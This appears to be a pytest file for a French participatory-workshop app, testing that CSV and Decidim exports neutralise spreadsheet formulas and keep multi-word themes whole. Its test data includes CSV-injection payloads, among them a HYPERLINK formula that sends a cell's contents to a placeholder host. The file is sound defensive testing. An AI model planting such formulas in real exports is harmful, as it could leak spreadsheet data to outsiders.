"""CSV exports a spreadsheet opens safely (OWASP's CSV-injection rule) and that
``import-cards`` reads back as typed; themes of several words stay whole."""

from __future__ import annotations

import csv
import io

import pytest

from exports.csv_export import neutralise, session_csv
from exports.decidim import decidim_csv
from fabrique_desktop import changes
from fabrique_desktop.changes import Change
from fabrique_desktop.csv_import import parse
from fabrique_desktop.model import Card, Persona, Table
from fabrique_desktop.report import gather_session
from fabrique_desktop.template import builtin_template

FORMULAS = [
    "=1+1",
    "-10 % de voitures en ville",
    "+33 6 12 34 56 78 : la ligne des habitants",
    "@SUM(A1:A9)",
    '=HYPERLINK("http://exemple.invalid/?"&A1;"Cliquez")',
    "\tTabulation en tête",
]


@pytest.fixture
def report(store, demo_session):
    edits = [
        changes.create(
            Card(
                session_id=demo_session.id,
                text=text,
                column="monde",
                position=1000.0 + n,
                tags=["#=cmd", "#Transition énergétique"],
            )
        )
        for n, text in enumerate(FORMULAS)
    ]
    store.apply(Change("formules", tuple(edits)))
    return gather_session(store, demo_session)


@pytest.mark.parametrize("delimiter", [",", ";"])
def test_formula_cells_are_neutralised_and_read_back_as_typed(
    store, demo_session, report, delimiter
) -> None:
    data = session_csv(report, delimiter)
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig")), delimiter=delimiter))
    cells = [cell for row in rows[1:] for cell in row]
    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in cells)
    written = {row[0] for row in rows[1:]}
    assert "'=1+1" in written
    assert "'-10 % de voitures en ville" in written
    parsed = parse(
        data,
        builtin_template(),
        store.find(Persona, series_id=demo_session.series_id),
        store.find(Table, session_id=demo_session.id),
    )
    texts = [r.text for r in parsed.rows]
    for formula in FORMULAS:
        assert " ".join(formula.split()) in texts  # import-cards folds spaces, as ever
    theirs = next(r for r in parsed.rows if r.text == "=1+1")
    assert theirs.tags == ("#=cmd", "#Transition énergétique")


def test_decidim_export_is_neutralised_without_a_mark_in_the_titles(report) -> None:
    # Decidim's own CSV reader: cells separated by « ; », taken as they are
    rows = list(csv.reader(io.StringIO(decidim_csv(report).decode("utf-8")), delimiter=";"))
    assert rows[0] == ["title/fr", "body/fr", "category/id", "category/name/fr"]
    assert not any(c.startswith(("=", "+", "-", "@")) for row in rows[1:] for c in row)
    titles = [row[0] for row in rows[1:]]
    assert " =1+1" in titles  # a page shows « =1+1 », a spreadsheet does not run it
    assert not any(t.startswith("'") for t in titles)
    bodies = [row[1] for row in rows[1:]]
    assert any(b.startswith(" =1+1\n") for b in bodies)


def test_a_deliberate_leading_apostrophe_survives_a_round_trip(store, demo_session) -> None:
    typed = ("'=pas une formule", "'+33 est un indicatif", "'simple citation'")
    edits = [
        changes.create(
            Card(session_id=demo_session.id, column="mieux", text=text, position=float(n))
        )
        for n, text in enumerate(typed)
    ]
    store.apply(Change("apostrophes", tuple(edits)))
    data = session_csv(gather_session(store, demo_session), ";")
    parsed = parse(
        data,
        builtin_template(),
        store.find(Persona, series_id=demo_session.series_id),
        store.find(Table, session_id=demo_session.id),
    )
    texts = [r.text for r in parsed.rows]
    for text in typed:
        assert text in texts


def test_a_text_that_only_looks_like_a_guard_is_kept() -> None:
    assert neutralise("'déjà entre apostrophes") == "'déjà entre apostrophes"
    assert neutralise("Une idée") == "Une idée"
    assert neutralise(3) == 3


@pytest.mark.parametrize(
    ("cell", "themes"),
    [
        (
            "Transition énergétique, Économie circulaire",
            ("#Transition énergétique", "#Économie circulaire"),
        ),
        ("Transition énergétique; Mobilité", ("#Transition énergétique", "#Mobilité")),
        ("Transition énergétique | Mobilité", ("#Transition énergétique", "#Mobilité")),
        ("#Transition énergétique #Mobilité", ("#Transition énergétique", "#Mobilité")),
        ("Économie circulaire", ("#Économie circulaire",)),
    ],
)
def test_themes_of_several_words_stay_whole(cell, themes) -> None:
    data = f'texte;thèmes\r\nUne idée;"{cell}"\r\n'.encode()
    parsed = parse(data, builtin_template())
    assert parsed.rows[0].tags == themes


def test_decidim_in_english_has_english_columns_and_labels(report) -> None:
    from fabrique_desktop.typography import language

    with language("en"):
        data = decidim_csv(report).decode("utf-8")
    rows = list(csv.reader(io.StringIO(data), delimiter=";"))
    assert rows[0] == ["title/en", "body/en", "category/id", "category/name/en"]
    body = next(row[1] for row in rows[1:] if "=1+1" in row[0])
    assert "From workshops 3 and 4 (" in body  # the demo's atelier 3: a joint piste
    assert "Issue de" not in data
    assert "Proposée" not in data
    assert "Ambition: Vivre Monde." in body  # English sets no space before « : »
